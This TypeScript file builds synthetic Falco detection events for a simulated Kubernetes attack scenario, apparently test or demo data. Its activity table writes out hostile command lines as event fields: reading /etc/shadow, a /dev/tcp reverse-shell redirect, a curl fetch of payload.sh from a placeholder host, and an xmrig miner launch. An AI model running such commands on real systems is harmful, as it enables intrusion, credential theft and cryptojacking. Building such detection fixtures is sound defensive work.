// The scenario's Falco events as Falco's json_output writes them, one per rule match the scenario's Prometheus
// counts: every increment of falcosecurity_falco_rules_matches_total (scripts/promql/scenario/exporters/falco.ts)
// becomes that many events in that scrape interval, so the event list and the counts agree.
import { FALCO_MATCHES, FalcoMatch } from '../promql/scenario/attacks';
import { NODES, Pod } from '../promql/scenario/cluster';
import { falcoFamilies, falcoTarget } from '../promql/scenario/exporters/falco';
import { inside } from '../promql/scenario/timeline';

// Falco's priority names by number (falco/userspace/engine/falco_common.cpp: priority_names).
const PRIORITIES = ['Emergency', 'Alert', 'Critical', 'Error', 'Warning', 'Notice', 'Informational', 'Debug'];

export interface FalcoEvent {
  uuid: string;
  time: string;
  rule: string;
  priority: string;
  source: string;
  hostname: string;
  tags: string[];
  output: string;
  output_fields: Record<string, string | number | null>;
}

// What the process did, per rule: the command line an analyst would see for that attack.
interface Activity {
  process: string;
  cmdline: string;
  parent: string;
  message: string; // the rule's output text before its fields (as in the corpus rulesets)
  extra?: Record<string, string>;
}

const ACTIVITY: Record<string, Activity> = {
  'Terminal shell in container': {
    process: 'sh',
    cmdline: 'sh',
    parent: 'runc',
    message: 'A shell was spawned in a container with an attached terminal',
  },
  'Read sensitive file untrusted': {
    process: 'cat',
    cmdline: 'cat /etc/shadow',
    parent: 'sh',
    message: 'Sensitive file opened for reading by non-trusted program',
    extra: { 'fd.name': '/etc/shadow' },
  },
  'Launch Privileged Container': {
    process: 'sh',
    cmdline: 'sh -c sleep infinity',
    parent: 'containerd-shim',
    message: 'Privileged container started',
  },
  'Launch Suspicious Network Tool in Container': {
    process: 'nmap',
    cmdline: 'nmap -sT 10.0.0.0/16',
    parent: 'bash',
    message: 'Network tool launched in container',
  },
  'Drop and execute new binary in container': {
    process: 'xmrig',
    cmdline: '/tmp/.x/xmrig --donate-level 1 -o pool.example.net:443',
    parent: 'sh',
    message: 'Executing binary not part of base image',
    extra: { 'proc.exepath': '/tmp/.x/xmrig' },
  },
  'Contact K8S API Server From Container': {
    process: 'kube-state-metr',
    cmdline: 'kube-state-metrics --port=8080 --telemetry-port=8081',
    parent: 'containerd-shim',
    message: 'Unexpected connection to K8s API Server from container',
    extra: { 'fd.name': '10.0.1.7:41234->10.96.0.1:443' },
  },
  'Redirect STDOUT/STDIN to Network Connection in Container': {
    process: 'bash',
    cmdline: 'bash -c exec 3<>/dev/tcp/10.0.2.19/4444',
    parent: 'java',
    message: 'Redirect stdout/stdin to network connection',
  },
  'Curl Executed in Container': {
    process: 'curl',
    cmdline: 'curl -fsSL http://203.0.113.7/payload.sh -o /tmp/.x/p.sh',
    parent: 'sh',
    message: 'curl executed in a container',
  },
};

const DEFAULT_ACTIVITY: Activity = {
  process: 'sh',
  cmdline: 'sh -c id',
  parent: 'runc',
  message: 'Custom rule matched',
};

function splitImage(image: string): { repository: string; tag: string } {
  const at = image.lastIndexOf(':');
  return at > image.lastIndexOf('/')
    ? { repository: image.slice(0, at), tag: image.slice(at + 1) }
    : { repository: image, tag: 'latest' };
}

function falcoTime(ms: number): string {
  // Falco writes nanoseconds: 2025-06-02T12:05:00.123456789Z.
  return new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$1000000Z');
}

function event(match: FalcoMatch, hostname: string, ms: number, seq: number): FalcoEvent {
  const { rule } = match;
  const pod: Pod | undefined = match.pod;
  const container = pod?.containers[0];
  const image = container ? splitImage(container.image) : undefined;
  const act = ACTIVITY[rule.rule] ?? DEFAULT_ACTIVITY;
  const priority = PRIORITIES[rule.priority];
  const fields: Record<string, string | number | null> = {
    'evt.time': ms * 1e6,
    'evt.type': 'execve',
    'user.name': 'root',
    'user.uid': 0,
    'proc.name': act.process,
    'proc.cmdline': act.cmdline,
    'proc.pname': act.parent,
    'proc.tty': rule.rule === 'Terminal shell in container' ? 34816 : 0,
    'container.id': pod ? pod.uid.replace(/-/g, '').slice(0, 12) : 'host',
    'container.name': container?.name ?? 'host',
    'container.image.repository': image?.repository ?? null,
    'container.image.tag': image?.tag ?? null,
    'k8s.ns.name': pod?.namespace ?? null,
    'k8s.pod.name': pod?.name ?? null,
    ...act.extra,
  };
  const detail = [
    `evt_type=execve user=root user_uid=0 process=${act.process} parent=${act.parent} command=${act.cmdline}`,
    pod
      ? `container_id=${fields['container.id']} container_name=${container?.name} container_image_repository=${image?.repository} container_image_tag=${image?.tag} k8s_pod_name=${pod.name} k8s_ns_name=${pod.namespace}`
      : '',
  ].filter(Boolean);
  const time = falcoTime(ms);
  return {
    uuid: `${match.node}-${rule.rule}-${ms}-${seq}`.replace(/[^A-Za-z0-9-]/g, '').slice(0, 60) + `-${seq}`,
    time,
    rule: rule.rule,
    priority,
    source: rule.source,
    hostname,
    tags: rule.tags,
    output: `${time.slice(11, 29)}: ${priority} ${act.message} | ${detail.join(' ')}`,
    output_fields: fields,
  };
}

// Every rule match of the scenario's day, oldest first.
export function scenarioEvents(): FalcoEvent[] {
  const nodeOfFalcoPod = new Map(NODES.map((n) => [falcoTarget(n).pod, n.name]));
  const matches = falcoFamilies().find((f) => f.name === 'falcosecurity_falco_rules_matches_total')!;
  const events: FalcoEvent[] = [];
  let seq = 0;
  for (const series of matches.series) {
    const node = nodeOfFalcoPod.get(series.labels.pod)!;
    const candidates = FALCO_MATCHES.filter((m) => m.rule.rule === series.labels.rule_name && m.node === node);
    const { times, values } = series;
    for (let i = 1; i < times.length; i++) {
      const v = values[i];
      if (Number.isNaN(v)) {
        continue;
      }
      // A counter that reappears after a gap (first match, or Falco restarted) counts from zero.
      const prev = values[i - 1];
      const added = Number.isNaN(prev) ? v : v - prev;
      const [from, to] = [times[i - 1], times[i]];
      // Single detections happen at their window's start; the others spread over the scrape interval.
      const exact = candidates.filter((m) => m.exactly && m.window.start > from && m.window.start <= to);
      let left = added;
      for (const m of exact) {
        for (let k = 0; k < m.exactly! && left > 0; k++, left--) {
          events.push(event(m, node, m.window.start * 1000, seq++));
        }
      }
      const open = candidates.filter((m) => !m.exactly && inside(m.window, to - 1));
      for (let k = 0; k < left; k++) {
        const m = open[k % Math.max(open.length, 1)] ?? candidates[0];
        const ms = Math.round((from + ((k + 1) * (to - from)) / (left + 1)) * 1000);
        events.push(event(m, node, ms, seq++));
      }
    }
  }
  return events.sort((a, b) => a.time.localeCompare(b.time));
}
